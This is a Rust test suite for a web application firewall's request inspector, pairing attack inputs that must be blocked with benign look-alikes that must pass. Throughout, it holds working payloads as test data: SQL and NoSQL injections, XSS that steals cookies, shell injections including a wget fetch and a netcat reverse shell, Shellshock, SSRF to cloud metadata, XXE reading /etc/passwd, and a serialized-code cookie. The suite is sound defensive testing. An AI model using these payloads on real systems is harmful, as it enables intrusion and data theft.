//! Per-class behaviour of the whole pipeline: an attack that must block and
//! a near miss that must not.

use super::views::shell_unquote;
use super::*;

fn query(q: &str) -> Inspection {
    inspect(&RequestView { query: Some(q), ..RequestView::default() })
}

fn typed(content_type: &str, body: &str) -> Inspection {
    inspect(&RequestView {
        content_type: Some(content_type),
        body: body.as_bytes(),
        ..RequestView::default()
    })
}

fn json(body: &str) -> Inspection {
    typed("application/json", body)
}

fn text(body: &str) -> Inspection {
    typed("text/plain", body)
}

/// `line` as the `message` of a JSON record.
fn message(line: &str) -> Inspection {
    json(&serde_json::json!({ "message": line }).to_string())
}

#[track_caller]
fn blocks(ins: Inspection, class: Class) {
    assert!(ins.blocked(DEFAULT_THRESHOLD), "not blocked: {ins:?}");
    assert!(ins.classes().contains(&class), "no {} finding: {ins:?}", class.label());
}

#[track_caller]
fn passes(ins: Inspection) {
    assert!(!ins.blocked(DEFAULT_THRESHOLD), "blocked: {ins:?}");
}

/// Each line, sent as a JSON record's message, passes.
#[track_caller]
fn messages_pass(lines: &[&str]) {
    for line in lines {
        passes(message(line));
    }
}

/// Every byte but letters and digits as `%XX`.
fn percent_encoded(text: &str) -> String {
    text.bytes()
        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
        .collect()
}

mod formats;
mod links;
mod prose;
mod records;
mod scanners;
mod templates;

#[test]
fn sqli() {
    blocks(query("id=or%2088"), Class::Sqli);
    passes(json(r#"{"answer":"1 or 2","note":"or 88 more"}"#));
    blocks(query("id=1%27%20UNION%2F**%2FSELECT%20password%20FROM%20users--"), Class::Sqli);
    blocks(query("id=1'+or+'1'='1"), Class::Sqli);
    blocks(json(r#"{"q":"x'; WAITFOR DELAY '0:0:5'--"}"#), Class::Sqli);
    blocks(query("u[$ne]=1"), Class::Nosql);
    blocks(query(r#"filter={"user":{"$gt":""}}"#), Class::Nosql);
    blocks(json(r#"{"q":"{\"name\": \"x' or '1'='1\"}"}"#), Class::Sqli);
    blocks(query("user=or%20true--&name=%27-%27"), Class::Sqli);
    // Language and region tags whose parts are SQL keywords (Odia, Assam).
    passes(query("locale=or-IN&alt=as-IN&region=IN-OR"));
    passes(text("Please select the union reps from the list and drop them a note; order by Friday."));
    passes(json(r#"{"name":"O'Brien","note":"it's 'fine' or not"}"#));
    blocks(query("id=1;drop%20table%20users--"), Class::Sqli);
    blocks(json(r#"{"q":"x'; DROP TABLE accounts; --"}"#), Class::Sqli);
    passes(json(r#"{"note":"Drop table tennis rackets off at the front desk; select any two for free."}"#));
    // Prose around markup is no tautology.
    passes(json(r#"{"doc":"see the quotas, or contact <a href=\"https://example.com/\">Support</a>"}"#));
    blocks(query("x=%29%20AS%20Role%20FROM"), Class::Sqli);
}

/// Query filters APIs take (AIP-160, JQL, OData, CEL) are SQL's words
/// without an injection's shape; see `waf::filters`.
#[test]
fn query_filters_pass_and_injections_shaped_like_them_do_not() {
    passes(query("filter=resource.type%3D%22gce_instance%22%20AND%20severity%3E%3DERROR"));
    passes(json(r#"{"jql":"project = ABC AND assignee = currentUser() ORDER BY priority DESC"}"#));
    passes(json(r#"{"filter":"(state = \"OPEN\" OR state = \"PENDING\") AND owner = \"alice\""}"#));
    blocks(query("filter=id%20%3D%201%20AND%20x%20%3D%20sleep(5)"), Class::Sqli);
    blocks(json(r#"{"filter":"state = 'x' OR 'a'='a'"}"#), Class::Sqli);
    blocks(json(r#"{"filter":"id = 1 UNION SELECT password FROM users"}"#), Class::Sqli);
}

/// Search queries (GitHub's `q`, Lucene's) quote phrases beside boolean
/// words; see `waf::search`. What else a value says of SQL still counts.
#[test]
fn search_queries_pass_and_injections_written_as_phrases_do_not() {
    passes(query("q=%22not%20found%22%20OR%20%22missing%22"));
    passes(query("q=%22union%20station%22%20chicago"));
    passes(json(r#"{"q":"\"select a plan\" OR \"union station\""}"#));
    blocks(query("q=%22%20OR%20%221%22%3D%221"), Class::Sqli);
    blocks(json(r#"{"q":"x \"union select password from users\" y"}"#), Class::Sqli);
    blocks(json(r#"{"q":"\"a\" or \"1\""}"#), Class::Sqli);
}

#[test]
fn xss() {
    blocks(query("q=%3Cscript%3Ealert(1)%3C/script%3E"), Class::Xss);
    blocks(json(r#"{"bio":"<img src=x onerror=alert(1)>"}"#), Class::Xss);
    blocks(query("u=jav%26%23x09%3Bascript:alert(1)"), Class::Xss);
    blocks(text("&lt;svg/onload=alert(document.cookie)&gt;"), Class::Xss);
    blocks(query("q=alert%601%60"), Class::Xss);
    blocks(query("q=%5C%22-alert%281%29%7D%2F%2F"), Class::Xss);
    blocks(json(r#"{"href":"javascript: void(document.location='//evil.example')"}"#), Class::Xss);
    blocks(query("ja%26newline%3Bvascript%3A%20=x"), Class::Xss);
    passes(json(r#"{"title":"Javascript: The Good Parts is a classic book."}"#));
    blocks(query("q=%22%3E%3Ch1%3Einjected%3C%2Fh1%3E"), Class::Xss);
    blocks(json(r#"{"bio":"</textarea><h1>x</h1>"}"#), Class::Xss);
    passes(json(r#"{"html":"<html><head><title>Hi</title></head><body><p>x</p></body></html>"}"#));
    messages_pass(&["Call `alert`, then `prompt`/`confirm` in the demo."]);
    passes(text("I wrote a script in JavaScript and the onboarding went well; 3 < 4 > 2."));
}

#[test]
fn rce() {
    blocks(query("host=8.8.8.8;cat%20/etc/passwd"), Class::Rce);
    blocks(query("f=a|wget%20http://x/s.sh"), Class::Rce);
    blocks(query("x=$(whoami)"), Class::Rce);
    blocks(query("x=;c'a't+/e??/p*d"), Class::Rce);
    blocks(json(r#"{"x":"%x('ls -al /')"}"#), Class::Rce);
    blocks(query("x=qx{whoami}"), Class::Rce);
    blocks(query("x=;%0a.sh%20id"), Class::Rce);
    blocks(query("ip=127.0.0.1%0awhoami&x=%0aid"), Class::Rce);
    passes(json(r#"{"address":"Flat 2\nCat Street\nBashley","note":"Ids:\nls-1, ls-2"}"#));
    passes(query("ext=.sh&type=application/x-sh"));
    // Chef's tools by name; a French county seat or a Dutch head chef is no tool.
    blocks(query("code=chef-shell"), Class::Rce);
    passes(json(r#"{"kind":"chef-lieu","tag":"chef-kok","title":"chef-d'oeuvre"}"#));
    passes(json(r#"{"license":"PYTHON SOFTWARE FOUNDATION LICENSE VERSION 2\n-----------------"}"#));
    blocks(query("q=python%20x.py%20--exec"), Class::Rce);
    // Texinfo's quotes are not command substitution.
    passes(query("service=kshell%09544/tcp%09%23%20Kerberized%20%60rsh%27%20(v5)"));
    passes(json(r#"{"fmt":"print it with %x (hex) or %d (decimal)"}"#));
    blocks(query("x=%7C%20dir%20c%3A%5C"), Class::Rce);
    blocks(json(r#"{"x":"& type c:\\windows\\win.ini"}"#), Class::Rce);
    passes(json(r#"{"note":"Meeting moved; start at 9:30, call me: 555-0100"}"#));
    blocks(
        inspect(&RequestView {
            headers: &[("user-agent", "() { :;}; /bin/bash -c id")],
            ..Default::default()
        }),
        Class::Rce,
    );
    passes(text("Meeting at 10; time to find the root cause, then cut a release; more later."));
    passes(query("uname=john+doe&cmd=status"));
    // An empty substitution splices a word; reStructuredText's `` closes a literal.
    blocks(query("x=;wh``oami"), Class::Rce);
    passes(text("* ``Repository.get_archive_link`` will now NOT follow HTTP redirects"));
    // C: calls after a `;`, and a class whose methods have bodies, are not
    // shell commands or Shellshock's `() { :;};`.
    passes(text("vprintf(format, args); printf(newline); fflush(stdout);"));
    passes(text("class dot { public: dot(){ location.set(0,0); } ~dot(){} }; class app { void setup(); };"));
    blocks(query("x=;printf%20-v%20a%20x"), Class::Rce);
    // Process substitution, not C++'s stream operator.
    blocks(query("x=cat%20<(ls%20-la)"), Class::Rce);
    passes(text("inline std::ostream& operator<<(std::ostream& os, ofMesh& data);"));
    // cmd.exe's comparisons, not C's.
    blocks(query("x=if%20(%251)==()%20goto%20end"), Class::Rce);
    blocks(query("x=if%20%22%25a%25%22==%22b%22%20echo%20x"), Class::Rce);
    passes(json(r#"{"body":"if (a == b) return;"}"#));
    passes(json(r##"{"body":"#if defined TARGET_WIN32"}"##));
}

#[test]
fn lfi_and_rfi() {
    blocks(query("file=..%2F..%2F..%2Fetc%2Fpasswd"), Class::Lfi);
    blocks(query("file=%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini"), Class::Lfi);
    blocks(inspect(&RequestView { path: Some("/.git/config"), ..Default::default() }), Class::Lfi);
    blocks(query("page=http://203.0.113.9/shell.txt?"), Class::Rfi);
    passes(text("logs are in /var/log/app.log and C:\\ProgramData\\app\\log.txt, see ../README"));
    blocks(query("file=%2Fvar%2Flog%2Fapache2%2Faccess.log"), Class::Lfi);
    blocks(query("file=....%5C/....%5C/x"), Class::Lfi);
    blocks(query("file=%f0%80%80%ae%f0%80%80%ae/%f0%80%80%ae%f0%80%80%ae/x"), Class::Lfi);
    blocks(query("file=..%0d/..%0d/WEB-INF/web.xml"), Class::Lfi);
    blocks(json(r#"{"a":"/etc/./passwd","b":"/etc//shadow"}"#), Class::Lfi);
    blocks(json(r#"{"path":"%SYSTEMROOT%\\system32\\cmd.exe"}"#), Class::Lfi);
    passes(inspect(&RequestView { path: Some("/v1/ingest/events"), ..Default::default() }));
    // A file URL names a path; a key file is read by its path. The benign
    // twins are an AWS CLI argument and an EC2 key pair's name.
    for attack in
        ["u=file:///etc/hostname", "u=file:/c:/boot.ini", "u=file://localhost/home/a/x", "k=~/id_rsa"]
    {
        blocks(query(attack), Class::Lfi);
    }
    passes(json(r#"{"TableMappings":"file://mappingfile.json","KeyPair":"id_rsa"}"#));
    passes(json(r#"{"title":"Corrupted file: /libs/quicktime/include/Icons.h"}"#));
    // 0.0.0.0 is this host, 0.0.0.80 is routed nowhere near it.
    blocks(query("u=http:0/admin"), Class::Ssrf);
    passes(json(r#"{"HealthCheck":{"Target":"HTTP:80/png"}}"#));
}

#[test]
fn php_includes_and_node_requires() {
    for attack in [
        "f=include($_GET['p']);",
        "f=require_once('/etc/passwd')",
        "f=include('shell.php')",
        "f=require('../../x')",
    ] {
        blocks(query(attack), Class::Php);
    }
    passes(json(r#"{"body":"const axios = require('axios');\nconst qs = require('querystring');"}"#));
    // C's include is no PHP call (the traversal in it is the LFI rules' to judge).
    let c_include = json(r##"{"body":"#include \"../../../libs/openFrameworks/ofMain.h\""}"##);
    assert!(!c_include.classes().contains(&Class::Php), "{c_include:?}");
}

#[test]
fn php() {
    blocks(query("x=%3C%3Fphp%20system($_GET['c']);%20?%3E"), Class::Php);
    blocks(json(r#"{"d":"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"}"#), Class::Php);
    blocks(query("f=php://filter/convert.base64-encode/resource=index"), Class::Php);
    passes(text("Our site runs on PHP; call the helper with a few args (yep)."));
    // Injected into a string, the rest of the line commented out.
    blocks(json(r#"{"q":"';die(md5('probe'));//"}"#), Class::Php);
    blocks(query("q=%27.halt(1)%3B%23"), Class::Php);
    passes(json(r#"{"q":"Call init(); then run(); // see the docs"}"#));
    // A word function is PHP's called bare or after a string's `.`; after
    // a name's `.` or `->` it is a method of another language or object.
    blocks(query("q=print_r(scandir('.'))"), Class::Php);
    blocks(query("q=%27.print_r(getcwd()).%27"), Class::Php);
    passes(json(r#"{"q":"gh = login(token=os.getenv(\"GH_TOKEN\", \"default\"))"}"#));
    passes(json(r#"{"q":"r.get_subreddit('arrow?',fetch=True)"}"#));
}

#[test]
fn protocol_and_generic() {
    blocks(query("a=x%0d%0aSet-Cookie:%20s=1"), Class::Protocol);
    blocks(query("a=%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection"), Class::Protocol);
    passes(json(r#"{"title":"上海 Location: 上 floor","note":"嘊嘍"}"#));
    blocks(json(r#"{"name":"x\r\nLocation: https://evil.example/"}"#), Class::Protocol);
    // A pasted transcript in a document is not a header smuggled in.
    let transcript = "Listing gists returns the rate limit in the headers, as the following response \
                      shows for the authenticated user:\nStatus: 200 OK\nX-RateLimit-Limit: 5000\n\
                      X-RateLimit-Remaining: 4999\n";
    passes(json(&serde_json::json!({ "body": transcript }).to_string()));
    blocks(query("a=x%00.png"), Class::Protocol);
    blocks(query("u=http://169.254.169.254/latest/meta-data"), Class::Generic);
    blocks(query("u=http:2130706433/&v=gopher://0x7f000001:70/"), Class::Generic);
    passes(json(r#"{"position":"after:84300550","since":"date:20261204"}"#));
    blocks(json(r#"{"callback":"http://x1.oastify.com/a","share":"\\\\10.0.0.5\\c$"}"#), Class::Generic);
    passes(json(r#"{"Aliases":["accounting.corp.example.com"]}"#));
    blocks(json(r#"{"__proto__":{"admin":true}}"#), Class::Generic);
    blocks(json(r#"{"a":{"constructor":{"prototype":{"admin":true}}}}"#), Class::Generic);
    passes(json(r#"{"constructor":"Ada","prototype":"v2"}"#));
    passes(json(r#"{"device":"AW-NU137 802.11bgn Wireless Module [Atheros AR9271]"}"#));
    blocks(query("x=global[String.fromCharCode(112)]&y=process%20[%27env%27]"), Class::Generic);
    // The same pollution written as JSON text inside a string value.
    blocks(json(r#"{"settings":"{\"constructor\": {\"prototype\": {\"x\": 1}}}"}"#), Class::Generic);
    passes(text("Line one.\nLine two: more text.\n"));
}

#[test]
fn findings_count_each_rule_once() {
    let ins = query("a=<script>&b=<script>&c=<script>");
    let mut ids = ins.rule_ids();
    let n = ids.len();
    ids.dedup();
    assert_eq!(n, ids.len());
    assert_eq!(ins.score, ins.findings.iter().map(|f| f.score).sum::<u32>());
    assert!(ins.findings.iter().all(|f| f.location == Location::Query));
}

#[test]
fn secrets_are_not_inspected() {
    let headers =
        [("authorization", "Basic ' or 1=1--"), ("x-api-key", "<script>"), ("x-forwarded-proto", "../../")];
    assert_eq!(inspect(&RequestView { headers: &headers, ..Default::default() }).score, 0);
}

#[test]
fn an_uploaded_php_file_is_refused_with_or_without_directories() {
    let upload = |file_name: &str| {
        let body = format!(
            "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{file_name}\"\r\n\
             Content-Type: text/plain\r\n\r\nplease block me\r\n--B--\r\n"
        );
        typed("multipart/form-data; boundary=B", &body)
    };
    for name in ["shell.php", "something/dangerous.php", "uploads\\x.phtml", "a/b/.htaccess"] {
        blocks(upload(name), Class::Php);
    }
    for name in ["report.pdf", "php/notes.txt", "docs/php.ini.md"] {
        passes(upload(name));
    }
    // A header's URL naming a PHP page is no upload.
    let referer = [("x-original-url", "https://example.com/index.php")];
    passes(inspect(&RequestView { headers: &referer, ..Default::default() }));
}

#[test]
fn a_client_written_forwarded_for_is_read_and_proxy_headers_pass() {
    let with = |headers: &[(&str, &str)]| inspect(&RequestView { headers, ..Default::default() });
    let attack = with(&[("x-forwarded-for", "<?=phpinfo()?>, 203.0.113.7")]);
    assert!(attack.blocked(DEFAULT_THRESHOLD), "{attack:?}");
    let proxied = with(&[
        ("x-forwarded-for", "203.0.113.7, 2001:db8::1, unknown, 10.0.0.2"),
        ("x-forwarded-proto", "https"),
        ("x-forwarded-host", "api.example.com:443"),
        ("forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
        ("via", "1.1 vegur"),
    ]);
    assert_eq!(proxied.score, 0, "{proxied:?}");
}

#[test]
fn labels_are_bounded() {
    for c in Class::ALL {
        assert!(!c.label().is_empty());
    }
    assert_eq!(Location::Header.label(), "header");
}

#[test]
fn hostile_inputs_do_not_panic() {
    for data in
        [&b""[..], b"\n\n\n", b"%", b"&#", b"\\u{", b"\xff\xfe\xc0", b"application/json\n\n\n[[[[[[[["]
    {
        fuzz_check(data);
    }
    let big = "%25".repeat(400_000);
    fuzz_check(format!("text/plain\n{big}\n{big}\n{big}").as_bytes());
}

/// Evasions the CRS's own tests exercise, each with a near miss.
#[test]
fn evasions() {
    // PostgreSQL casts and JSON operators, glued operators, CASE tails.
    blocks(query("id=password::int"), Class::Sqli);
    blocks(query("q=or%20'%7B%22b%22:2%7D'::jsonb%20@%3E%20'%7B%22a%22:1%7D'"), Class::Sqli);
    blocks(query("v=a'or'a"), Class::Sqli);
    blocks(query("v=)%20when%20234%20then"), Class::Sqli);
    blocks(text("select x group by something having count(id) >= 9"), Class::Sqli);
    passes(text("Is this your parents' or yours? Meet at 10::30 -> then lunch."));
    // PHP calls through strings, arrays and variable variables, comments dropped.
    blocks(query("x=(/*c*/system)(ls/*c*/);"), Class::Php);
    blocks(query("x=[system][0](ls);"), Class::Php);
    blocks(query("x=%24%7B%40a%7D(10)"), Class::Php);
    blocks(query("foo=exec%20%2f%2fcomment%0d%0a%20%28blah%29"), Class::Php);
    blocks(query("x=(%20[%20system%20][%200%20])%20{0}%20(%20ls%20);"), Class::Php);
    blocks(query("code=memory_limit%20=%20512M"), Class::Php);
    passes(text("The system (as designed) works; see [1] for details."));
    passes(text("Run exec # as root\n (then log out); memory limit = 512M."));
    // Shells: sqlite3 dot-commands, brace expansion, globbed system paths.
    blocks(query("s=1;.sh%20whoami"), Class::Rce);
    blocks(query("c=%7Bnc,-nlvp,777%7D"), Class::Rce);
    blocks(query("s=/etc/[m-z]asswd"), Class::Rce);
    // Substring expansions building a path, an empty splice opening the
    // value, a subshell glued to a separator; a legal list's "; (vi)" passes.
    blocks(query("p=%24%7BPATH%3A0%3A1%7Detc%24%7BPATH%3A0%3A1%7Dpasswd"), Class::Rce);
    blocks(query("c=%24%40id"), Class::Rce);
    blocks(query("c=x%3B%28id%29"), Class::Rce);
    blocks(query("arg=;ssh-copy-id%20user@server"), Class::Rce);
    blocks(query("c=%3Bw%60u%60hoami"), Class::Rce);
    blocks(query("c=%26%20dir"), Class::Rce);
    blocks(query("c=a%7Cecho%20CMX"), Class::Rce);
    blocks(json(r#"{"c":"a`echo CMX`"}"#), Class::Rce);
    blocks(query("c=%27.print%28md5%281%29%29.%27"), Class::Php);
    passes(json(r#"{"t":"R&D | Sales; id card","u":"AT&T"}"#));
    blocks(json(r#"{"c":";echo vulnerable > /tmp/x"}"#), Class::Rce);
    passes(json(r#"{"doc":"Redirect the output > /tmp/build.log to keep it."}"#));
    blocks(query("param=aa-disable%20php-fpm"), Class::Rce);
    passes(json(r#"{"title":"ssh-copy-id release notes"}"#));
    passes(text("the date of any change;\n  (vi) You may not impose any further restrictions"));
    blocks(query("code=;c89%20-wrapper%20sh,-c,id%20."), Class::Rce);
    assert_eq!(shell_unquote("pi>()ng").as_deref(), Some("ping"));
    blocks(query("arg=;flock%20-u%20/%20whoami"), Class::Rce);
    blocks(query("arg=%3Btrap%20%27rm%20-rf%20file.txt%27%20SIGEXIT"), Class::Rce);
    blocks(query("foo=;\\n.shell%20nc%2010.0.0.1%206666%20-e%20sh"), Class::Rce);
    passes(text("Use {a, b} as a set; the file is /etc/app.conf [optional]."));
    passes(query("args=;performance&note=set%20-o%20vi%20in%20your%20shell%20rc"));
    // Disguised hosts and ORM lookups.
    blocks(query("u=http://2852039166/"), Class::Generic);
    blocks(query("u=host.docker.internal/"), Class::Generic);
    blocks(query("created_by__departments__employees__user__username__startswith=p"), Class::Generic);
    blocks(query("u=http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/"), Class::Generic);
    blocks(query("u=http://google.com:80%20%26@127.88.23.245:22/"), Class::Generic);
    blocks(query("u=http:127.0.0.1"), Class::Generic);
    passes(query("u=https://example.com:8443/a/b&order_by=created_at&page=2"));
    passes(text("Write to ops@example.com (127 tickets) or see http://status.example.com."));
    // Tagged template calls and the document object by index.
    blocks(query("x=[].sort.call`${alert}1337`"), Class::Xss);
    blocks(query("x=(document)[%22cookie%22]"), Class::Xss);
    passes(text("Template strings like `${name}` are fine in docs."));
    blocks(query("x=v%20b%20s%20c%20r%20i%20p%20t:msgbox(1)"), Class::Xss);
    blocks(query("x=alert()"), Class::Xss);
    blocks(query("a=(![]%2B[])[%2B!%2B[]]"), Class::Xss);
    blocks(query("%20%20onload%3d%20=vardata"), Class::Xss);
    passes(text("To do: [ ] buy milk + [ ] call Ana; the online= flag stays."));
    passes(text("Please don't alert() anyone before the alert (fire drill) at 10."));
    // Conditions left open for the server to close, assigned subqueries.
    blocks(query("pay=and%20deleted%20=%200)"), Class::Sqli);
    blocks(query("var=%40.%3D%20(%20SELECT"), Class::Sqli);
    passes(text("Sizes S and M = 0 (see stock) were sold out; pick (or skip) a colour."));
    blocks(text("` AS `edit_user_id` from"), Class::Sqli);
    blocks(query("q=x%20HAVING%201%3D1"), Class::Sqli);
    blocks(query("i=2.2250738585072011e-308"), Class::Sqli);
    passes(text("She is known as 'the boss' in Lisbon, having 2 kids (1 = Ana, 2 = Rui)."));
    // A form pair sent percent-encoded whole, and a body that only looks like a form.
    let undeclared = |body: &str| inspect(&RequestView { body: body.as_bytes(), ..RequestView::default() });
    blocks(undeclared("pay%3D%26%26%28l%3D%210%29"), Class::Sqli);
    blocks(undeclared("'admin', '1'='1'"), Class::Sqli);
    passes(undeclared("name=O%27Brien&note=it%27s+1%3D1+day+or+two"));
    assert_eq!(smuggled_pair_value(b"a%3Db", b"a=b"), Some(&b"b"[..]));
    assert_eq!(smuggled_pair_value(b"a=b", b"a=b"), None);
    assert_eq!(smuggled_pair_value(b"x y%3Db", b"x y=b"), None);
    // Archive and local-file URL schemes.
    blocks(query("x=jar:http://evil.example/b.zip!/a"), Class::Rfi);
    passes(query("x=https://example.com/downloads/app.jar"));
    blocks(query("code=../.history"), Class::Lfi);
    blocks(query("a=..;/..;/admin"), Class::Lfi);
    passes(text("Version 2.0...3.1 of the guide; see chapter 4."));
}

#[test]
fn whole_value_fragments() {
    // SQL: strings closed with `';`, dangling conditions, catalogue names,
    // operators and calls cut off, quote-and-number tails, casts after a literal.
    blocks(query("email=admin%40juice-sh.op%27%3B"), Class::Sqli);
    blocks(query("pay=/3%20or%20"), Class::Sqli);
    blocks(query("db=northwind"), Class::Sqli);
    blocks(query("pay=length%7C%7C("), Class::Sqli);
    blocks(query("x=rlike"), Class::Sqli);
    blocks(query("x=%20in%20(815914,%20815913)%20"), Class::Sqli);
    blocks(query("x=%22%3A60"), Class::Sqli);
    blocks(query("x=lo_get(16400)"), Class::Sqli);
    blocks(query("x=6%20as%22%20from"), Class::Sqli);
    blocks(query("x='%5B1,%202%5D'::jsonb"), Class::Sqli);
    blocks(query("x=xunionselectfrom"), Class::Sqli);
    passes(json(r#"{"tags":["regexp","order by","select"],"op":">=","note":"try it or 2"}"#));
    passes(text("Please select an option from menu"));
    passes(text("see printf(3) and the man page; the Northwind sample is old"));
    // Shells: non-word tools with options, installs, spliced variables, `~+`.
    blocks(query("a=perf%20--version"), Class::Rce);
    blocks(query("a=zstdcat%20/var/log/sensitive_log_file.zst"), Class::Rce);
    blocks(query("a=;pip3%20install%20something"), Class::Rce);
    passes(query("a=pip3%20install%20something"));
    blocks(query("a=uname%24u%20-a"), Class::Rce);
    blocks(query("a=bin/visudo"), Class::Rce);
    blocks(query("a=~%2B"), Class::Rce);
    blocks(query("a=echo%20%7C%20gcc7.4"), Class::Rce);
    passes(json(r#"{"package":"gcc-12","tool":"aa-features-abi","msg":"set urgency=high"}"#));
    passes(text("Run the visudo tool with care; gcc7.4 builds it and pip installs the rest"));
    // PHP probes, spaced superglobals, ini switches; Node.js probes; `-->`.
    blocks(query("x=gethostbyname("), Class::Php);
    blocks(query("x=%24_s%20erver%5B'request_uri'%5D%3B"), Class::Php);
    blocks(query("var=engine%3Dtrue"), Class::Php);
    blocks(query("foo=console.info(1)"), Class::Generic);
    blocks(query("ssrf=irc://localhost"), Class::Generic);
    blocks(query("x=-->"), Class::Xss);
    passes(json(r#"{"filter":"extension=pdf","note":"A --> B","img":"data:image/png;base64,iVBORw0KGgo="}"#));
}

#[test]
fn xxe_in_a_doctype_is_seen() {
    let xml = |body: &'static str| typed("application/xml", body);
    blocks(
        xml(r#"<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/e.dtd"><r/>"#),
        Class::Generic,
    );
    passes(xml(r#"<?xml version="1.0"?><!DOCTYPE note SYSTEM "note.dtd"><note><to>Tove</to></note>"#));
    blocks(xml(r#"<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><r/>"#), Class::Sqli);
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    blocks(typed("application/xml", xxe), Class::Xss);
}

#[test]
fn spliced_command_words() {
    blocks(query("a='i'fconfig"), Class::Rce);
    blocks(query("a='i'p%20a"), Class::Rce);
    blocks(query("a=w%5Cho'am'i"), Class::Rce);
    blocks(query("a=%5Cls"), Class::Rce);
    blocks(query("a=l's%20-la"), Class::Rce);
    blocks(query("a=wge't%20http://x.example/a"), Class::Rce);
    passes(json(r#"{"m":"I'd be surprised if it's done; we'll see what O'Brien's team says"}"#));
}

#[test]
fn whole_base64_cookies_and_arguments_are_read() {
    let cookie = |value: &str| {
        let headers = [("cookie", value)];
        inspect(&RequestView { headers: &headers, ..RequestView::default() })
    };
    // node-serialize's session cookie: `require("child_process").exec('whoami')`.
    blocks(cookie("profile=cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoJ3dob2FtaScpCg=="), Class::Generic);
    passes(cookie("session=eyJ1c2VyIjoiYWRhIiwiY2FydCI6WzEsMiwzXX0; theme=ZGFyaw"));
    // `' UNION SELECT password FROM users--` as a whole query argument.
    blocks(query("state=JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t"), Class::Sqli);
    passes(query("sha=da39a3ee5e6b4b0d3255bfef95601890afd80709&token=Zm9vYmFyYmF6cXV4"));
    // In a body, whole-value base64 of lines is a file's content: data, not
    // decoded; one short line is a field's, read as in a query.
    passes(json(r#"{"content":"I2luY2x1ZGUgPHN0ZGlvLmg+CmludCBtYWluKCkgeyBzeXN0ZW0oImxzIC1sIik7IH0K"}"#));
    blocks(json(r#"{"state":"JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t"}"#), Class::Sqli);
}

#[test]
fn base64_data_urls_are_read() {
    blocks(query("f=data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="), Class::Php);
    passes(json(
        r#"{"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"}"#,
    ));
}

#[test]
fn nosql_operators_and_server_side_javascript() {
    for q in [
        "username[$ne]=toto&password[$ne]=toto",
        "user[$regex]=^adm&pass[$gt]=",
        "q=true, $where: '1 == 1'",
        "q=' || 'a'=='a",
        "q=admin' || '1'=='1",
        "q=';return 'a'=='a' && ''=='",
        "q=1; return true",
        "q=' && this.password.match(/.*/)//",
        "q=db.users.find()",
        "q=';sleep(5000);'",
        "q=||1==1",
        "q=function() { return true }",
    ] {
        let ins = query(q);
        assert!(ins.blocked(DEFAULT_THRESHOLD), "{q}: {ins:?}");
    }
    blocks(json(r#"{"username":{"$ne":null},"password":{"$ne":null}}"#), Class::Nosql);
    blocks(json(r#"{"filter":"{\"$where\": \"this.a == 1\"}"}"#), Class::Nosql);
    blocks(query("q=' %26%26 this.password == 'x"), Class::Nosql);
    passes(json(
        r#"{"note":"The price went from $5 to $7 last week, and in the handler the check this.value == 'x' compares the field with a constant, which is how the old code did it","a":"a == b"}"#,
    ));
}

#[test]
fn ldap_filters_closed_in_a_value() {
    for q in [
        "u=*)(uid=*))(|(uid=*",
        "u=admin*)((|userPassword=*)",
        "u=*()|%26'",
        "u=*)(%26",
        "u=x)(cn=*",
        "u=*))%00",
    ] {
        let ins = query(q);
        assert!(ins.blocked(DEFAULT_THRESHOLD), "{q}: {ins:?}");
    }
    passes(json(r#"{"m":"Call me (after 5)(or before 6) at the office; see (a)(b) above"}"#));
    passes(text(
        "7 QuickTime CallComponentFunction(char**, ComponentParameters*, long (*)(), unsigned long) + 54",
    ));
}
